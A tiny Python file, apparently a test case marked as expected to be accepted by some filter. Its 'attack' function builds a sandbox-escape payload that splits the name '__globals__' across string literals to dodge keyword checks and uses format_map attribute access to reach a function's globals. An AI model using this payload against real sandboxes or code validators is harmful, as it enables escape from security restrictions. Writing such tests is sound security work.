# expect: ACCEPTED
def attack(word: str) -> str:
    points = [ord(letter) for letter in word]
    return f"""
path = "._" "_globals_" "_[KEY]"
key = ("{{door" + path + "}}").format_map(dict(door=enter))
enter(key, "".join(map(chr, {points})))
"""
